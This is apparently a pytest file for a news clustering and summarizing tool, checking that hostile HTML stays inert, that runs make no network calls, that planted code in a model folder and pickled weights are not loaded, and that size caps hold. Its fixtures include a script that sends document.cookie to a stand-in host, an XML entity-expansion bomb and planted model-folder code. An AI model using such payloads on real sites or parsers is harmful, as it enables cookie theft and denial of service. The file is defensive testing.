"""Safety and limits: hostile HTML is inert, runs stay offline, models load only safely, inputs are capped.

HTML is parsed, never rendered: no script runs and no resource is fetched; no markup
reaches the JSON's text fields; paths in outputs are relative to the input root; model
weights load from safetensors only, with no code from the model folder; and size caps
keep memory bounded even for a 1 GB article.
"""

from __future__ import annotations

import json
import re
import socket
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from typer.testing import CliRunner

from cluster.ingest import load_articles
from cluster.settings import IngestSettings
from cluster.types import Cluster, Clustering
from summarize.cli import app
from summarize.output import clustering_to_dict, dumps, load_schema

from .extras import skip_without_extra

REPO = Path(__file__).resolve().parents[1]
runner = CliRunner()
MARKUP = re.compile(r"<\s*/?\s*(?:script|iframe|style|img|link|object|embed|svg|meta|base)\b|<[A-Za-z!/?][^<>]*>", re.I)


BODY = (
    "<p>A magnitude 7.1 earthquake struck off the coast of Chile on Tuesday, killing at least 12 people and destroying "
    "hundreds of homes in the port city of Valparaiso, officials said.</p>"
    "<p>Rescue teams searched collapsed buildings overnight while President Gabriel Boric declared a state of emergency "
    "in the region and sent troops to help with the recovery effort.</p>"
    "<p>The quake was felt as far away as Santiago, where residents ran into the streets as buildings swayed for nearly "
    "a minute, according to witnesses who spoke to local radio stations.</p>"
)
HOSTILE_HEAD = (
    "<!DOCTYPE html SYSTEM 'http://127.0.0.1:9/evil.dtd'>"
    "<html><head><title>Quake &amp; <b>aftermath</b> hits Chile</title>"
    "<base href='http://127.0.0.1:9/'>"
    "<link rel=stylesheet href='http://127.0.0.1:9/style.css'>"
    "<link rel=import href='http://127.0.0.1:9/import.html'>"
    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/redirect'>"
    "<script src='http://127.0.0.1:9/tracker.js'></script>"
    "<script>fetch('http://127.0.0.1:9/steal?c=' + document.cookie)</script>"
    "<style>@import url('http://127.0.0.1:9/more.css'); body { background: url(http://127.0.0.1:9/bg.png) }</style>"
    "</head><body>"
)
HOSTILE_TAIL = (
    "<iframe src='http://127.0.0.1:9/frame.html'></iframe>"
    "<img src='http://127.0.0.1:9/pixel.gif' onerror=\"alert('x')\">"
    "<object data='http://127.0.0.1:9/x.swf'></object>"
    "<svg><image href='http://127.0.0.1:9/i.svg'/></svg>"
    "<p>&lt;script&gt;alert('escaped')&lt;/script&gt; ＜iframe src=x＞</p>"
    "</body></html>"
)


def hostile_page(n: int) -> str:
    return HOSTILE_HEAD + f"<h1>Quake report {n}</h1>" + BODY + HOSTILE_TAIL


class NetworkBlocked(AssertionError):
    """Raised when anything tries to open a network connection during a test."""


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[Any]:
    """Make every outgoing connection (and name lookup) fail loudly; return the attempts."""
    attempts: list[Any] = []

    def refuse(*args: Any, **kwargs: Any) -> Any:
        attempts.append(args[1:] if args and isinstance(args[0], socket.socket) else args)
        raise NetworkBlocked(f"network access attempted: {args!r}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    monkeypatch.setenv("TRANSFORMERS_OFFLINE", "1")
    return attempts


def text_fields_of_clusters(data: dict[str, Any]) -> list[str]:
    return [a[f] or "" for a in data["articles"] for f in ("text", "title", "source", "url", "published")]


def text_fields_of_digest(data: dict[str, Any]) -> list[str]:
    fields = []
    for story in data["stories"]:
        fields += [story["summary"], story["title"] or "", story["note"] or ""] + [f["text"] for f in story["facts"]]
    return fields


# ----------------------------------------------------------------------------- hostile HTML


def test_hostile_html_is_read_as_text_only_with_no_network_access(tmp_path: Path, no_network: list[Any]) -> None:
    (tmp_path / "quake.html").write_text(hostile_page(1), "utf-8")
    ingested = load_articles([tmp_path])
    assert no_network == []
    (article,) = ingested.articles
    assert "earthquake struck off the coast of Chile" in article.text
    for value in (article.text, article.title or "", article.url or "", article.source or ""):
        assert not MARKUP.search(value), value
    assert "alert" not in article.text and "document.cookie" not in article.text and "escaped" not in article.text


def test_entity_expansion_bombs_in_html_do_not_blow_up(tmp_path: Path) -> None:
    laughs = "<!DOCTYPE html [<!ENTITY a 'lol'>" + "".join(f"<!ENTITY {chr(98 + i)} '{('&' + chr(97 + i) + ';') * 10}'>" for i in range(9)) + "]>"
    (tmp_path / "bomb.html").write_text(laughs + "<html><body>" + BODY + "<p>&j;</p></body></html>", "utf-8")
    ingested = load_articles([tmp_path])
    total = sum(len(a.text) for a in ingested.articles)
    assert total < 100_000
    assert len(ingested.articles) + len(ingested.skipped) == 1


def test_storyfold_run_over_hostile_html_makes_no_connection_and_writes_no_markup(tmp_path: Path, no_network: list[Any]) -> None:
    folder = tmp_path / "pages"
    folder.mkdir()
    for n in range(3):
        (folder / f"quake-{n}.html").write_text(hostile_page(n), "utf-8")
    clusters, digest = tmp_path / "clusters.json", tmp_path / "digest.json"
    result = runner.invoke(app, ["cluster", str(folder), "-o", str(clusters), "-q"])
    assert result.exit_code == 0, result.output
    result = runner.invoke(app, ["summarize", str(clusters), "-o", str(digest), "--summarizer", "extractive", "-q"])
    assert result.exit_code == 0, result.output
    result = runner.invoke(app, ["run", str(folder), "-o", str(tmp_path / "run.json"), "--summarizer", "extractive", "-q"])
    assert result.exit_code == 0, result.output
    assert no_network == []
    cluster_data = json.loads(clusters.read_text("utf-8"))
    digest_data = json.loads(digest.read_text("utf-8"))
    jsonschema.validate(digest_data, load_schema("digest"))
    for value in text_fields_of_clusters(cluster_data) + text_fields_of_digest(digest_data):
        assert not MARKUP.search(value), value
    assert any("Valparaiso" in f["text"] for s in digest_data["stories"] for f in s["facts"])


# ----------------------------------------------------------------------------- relative paths


def make_tree(root: Path) -> None:
    (root / "wires" / "ap").mkdir(parents=True)
    (root / "wires" / "ap" / "quake.txt").write_text("Quake hits Chile\n" + re.sub("<[^>]+>", " ", BODY), "utf-8")
    (root / "wires" / "broken.json").write_text("{not json", "utf-8")
    (root / "scan.pdf").write_bytes(b"%PDF-1.4")
    (root / "feed.jsonl").write_text('{"text": "Rescuers searched Valparaiso overnight, officials said."}\n{oops\n', "utf-8")


def assert_no_absolute_path(text: str, root: Path) -> None:
    assert str(root) not in text and str(root.parent) not in text
    assert not re.search(r'"(?:/|[A-Za-z]:\\\\)[^"]*"', text.replace('"/"', "")), "an absolute path is in the output"


def test_paths_in_clusters_json_are_relative_to_the_input_root(tmp_path: Path) -> None:
    root = (tmp_path / "corpus").resolve()
    make_tree(root)
    ingested = load_articles([root])
    clustering = Clustering(ingested.articles, tuple(Cluster.of([a.id]) for a in ingested.articles), ingested.skipped)
    text = dumps(clustering_to_dict(clustering))
    assert_no_absolute_path(text, root)
    assert sorted(s.input for s in ingested.skipped) == ["feed.jsonl:2", "scan.pdf", "wires/broken.json"]
    assert sorted(a.id for a in ingested.articles) == ["feed.jsonl:1", "wires/ap/quake"]


def test_paths_in_digest_json_are_relative_to_the_input_root(tmp_path: Path) -> None:
    root = (tmp_path / "corpus").resolve()
    make_tree(root)
    out = tmp_path / "digest.json"
    result = runner.invoke(app, ["run", str(root), "-o", str(out), "--summarizer", "extractive", "-q"])
    assert result.exit_code == 0, result.output
    text = out.read_text("utf-8")
    assert_no_absolute_path(text, root)
    assert sorted(s["input"] for s in json.loads(text)["skipped"]) == ["feed.jsonl:2", "scan.pdf", "wires/broken.json"]


# ----------------------------------------------------------------------------- model loading


@pytest.fixture(scope="module")
def tiny_bart(tmp_path_factory: pytest.TempPathFactory) -> Path:
    skip_without_extra("bart")
    from .tinybart import build_tiny_bart

    return build_tiny_bart(tmp_path_factory.mktemp("safety-bart"))


def bart_settings(model: Path) -> Any:
    from dataclasses import replace

    from summarize.settings import BartSettings, Settings

    return replace(Settings(), bart=BartSettings(model=str(model), num_beams=1, min_new_tokens=2, max_new_tokens=8))


def test_a_model_folder_with_only_pickled_weights_is_refused(tiny_bart: Path, tmp_path: Path, no_network: list[Any]) -> None:
    import shutil

    import torch
    from safetensors.torch import load_file

    from cluster.errors import ModelUnavailableError
    from summarize.generation import make_summarizer

    pickled = tmp_path / "pickled"
    shutil.copytree(tiny_bart, pickled, ignore=shutil.ignore_patterns("*.safetensors"))
    state = {}
    for weights in tiny_bart.glob("*.safetensors"):
        state.update(load_file(str(weights)))
    torch.save(state, pickled / "pytorch_model.bin")  # the same weights, in the pickle format
    assert (pickled / "pytorch_model.bin").exists() and not list(pickled.glob("*.safetensors"))
    assert make_summarizer("bart", bart_settings(tiny_bart)).method == "bart"  # the same weights as safetensors load
    with pytest.raises(ModelUnavailableError, match="safetensors"):
        make_summarizer("bart", bart_settings(pickled))
    result = runner.invoke(app, ["summarize", str(tmp_path / "none.json"), "--summarizer", "bart", "--model", str(pickled)])
    assert result.exit_code == 2


def test_code_shipped_in_a_model_folder_is_never_run(tiny_bart: Path, tmp_path: Path, no_network: list[Any]) -> None:
    import shutil

    from summarize.generation import make_summarizer

    folder = tmp_path / "remote-code"
    shutil.copytree(tiny_bart, folder)
    marker = tmp_path / "code-ran"
    payload = f"open({str(marker)!r}, 'w').write('ran')\n"
    for name in ("configuration_evil.py", "modeling_evil.py", "tokenization_evil.py"):
        (folder / name).write_text(payload)
    config = json.loads((folder / "config.json").read_text())
    config["auto_map"] = {
        "AutoConfig": "configuration_evil.EvilConfig",
        "AutoModelForSeq2SeqLM": "modeling_evil.EvilModel",
        "AutoTokenizer": ["tokenization_evil.EvilTokenizer", None],
    }
    (folder / "config.json").write_text(json.dumps(config))
    try:
        make_summarizer("bart", bart_settings(folder))
    except Exception as exc:  # refusing the folder is fine; running its code is not
        from cluster.errors import ModelUnavailableError

        assert isinstance(exc, ModelUnavailableError), exc
    assert not marker.exists(), "code from the model folder was executed"


# ----------------------------------------------------------------------------- limits

RSS_PROBE = textwrap.dedent(
    """
    import json, resource, sys, time
    from cluster.ingest import load_articles
    from cluster.settings import IngestSettings
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    start = time.perf_counter()
    ingested = load_articles([sys.argv[1]], IngestSettings(max_file_bytes=int(sys.argv[2])))
    seconds = time.perf_counter() - start
    after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    print(json.dumps({"grew_kib": after - before, "seconds": seconds, "articles": len(ingested.articles),
                      "skipped": [[s.input, s.reason] for s in ingested.skipped]}))
    """
)


def probe(path: Path, cap: int) -> dict[str, Any]:
    done = subprocess.run(
        [sys.executable, "-c", RSS_PROBE, str(path), str(cap)], capture_output=True, text=True, timeout=120, env={"PYTHONPATH": str(REPO), "PATH": ""}
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


GIB = 1 << 30


def test_a_1_gb_text_file_is_skipped_unread_with_the_cap_in_the_reason(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "small.txt").write_text("Rain\nRain fell in Paris on Monday, officials said.")
    with open(folder / "huge.txt", "wb") as handle:
        handle.write(b"Huge\nstart of a very long article ")
        handle.truncate(GIB)  # sparse: no real disk use
    report = probe(folder, 50_000_000)
    assert report["articles"] == 1
    assert report["skipped"] == [["huge.txt", f"file is {GIB} bytes, over the cap (ingest.max_file_bytes = 50000000)"]]
    assert report["grew_kib"] < 64 * 1024 and report["seconds"] < 10


def test_a_1_gb_jsonl_line_is_skipped_in_bounded_memory_and_the_next_line_still_read(tmp_path: Path) -> None:
    path = tmp_path / "feed.jsonl"
    with open(path, "wb") as handle:
        handle.write(b'{"text": "Rain fell in Paris on Monday, officials said."}\n{"text": "')
        handle.seek(GIB)
        handle.write(b'"}\n{"text": "Rescuers searched Valparaiso overnight, officials said."}\n')
    report = probe(path, 8_000_000)
    assert report["articles"] == 2
    assert report["skipped"] == [["feed.jsonl:2", "line is over the cap (ingest.max_file_bytes = 8000000 bytes)"]]
    assert report["grew_kib"] < 256 * 1024, f"memory grew by {report['grew_kib']} KiB"
    assert report["seconds"] < 30


def test_files_over_the_byte_cap_are_skipped_with_the_setting_named(tmp_path: Path) -> None:
    (tmp_path / "a.json").write_text(json.dumps({"text": "x " * 600}))
    (tmp_path / "b.txt").write_text("Title\nshort body text here")
    ingested = load_articles([tmp_path], IngestSettings(max_file_bytes=1000))
    assert [a.id for a in ingested.articles] == ["b"]
    (skip,) = ingested.skipped
    assert skip.input == "a.json" and "over the cap (ingest.max_file_bytes = 1000)" in skip.reason


def test_articles_past_the_count_cap_are_skipped_one_by_one_with_the_setting_named(tmp_path: Path) -> None:
    lines = [json.dumps({"id": f"n{i}", "text": f"Story number {i} happened today."}) for i in range(5)]
    (tmp_path / "feed.jsonl").write_text("\n".join(lines))
    ingested = load_articles([tmp_path], IngestSettings(max_articles=3))
    assert [a.id for a in ingested.articles] == ["n0", "n1", "n2"]
    assert [(s.input, s.reason) for s in ingested.skipped] == [
        (f"feed.jsonl:{n}", "article cap reached (ingest.max_articles = 3)") for n in (4, 5)
    ]


def test_a_cap_below_one_is_refused_with_the_key_named() -> None:
    from cluster.errors import ConfigError

    with pytest.raises(ConfigError, match=r"\[ingest\] max_articles: 0 must be an integer from 1 to 2\*\*32; "):
        IngestSettings(max_articles=0)


def test_runaway_sentences_never_become_facts(tmp_path: Path) -> None:
    words = " ".join(f"word{i}" for i in range(400))
    body = (
        "Rain fell in Paris on Monday and flooded several streets, officials said. "
        f"The council said {words} in a statement. "
        + "x" * 5000
        + " The mayor said the clean-up would take about a week, officials said."
    )
    folder = tmp_path / "in"
    folder.mkdir()
    for n, source in enumerate(("AP", "Reuters")):
        (folder / f"{n}.json").write_text(json.dumps({"id": f"a{n}", "source": source, "title": "Paris rain", "text": body}))
    config = tmp_path / "caps.toml"
    config.write_text("[sentences]\nmin_words = 3\nmax_words = 30\nmax_chars = 300\n")
    out = tmp_path / "digest.json"
    result = runner.invoke(app, ["run", str(folder), "-o", str(out), "-c", str(config), "--summarizer", "extractive", "-q"])
    assert result.exit_code == 0, result.output
    data = json.loads(out.read_text("utf-8"))
    facts = [f["text"] for s in data["stories"] for f in s["facts"]]
    assert facts, "the ordinary sentences should still give facts"
    assert all(len(f) <= 300 and len(f.split()) <= 30 for f in facts), facts
    assert "word399" not in out.read_text("utf-8").split('"facts"')[-1]
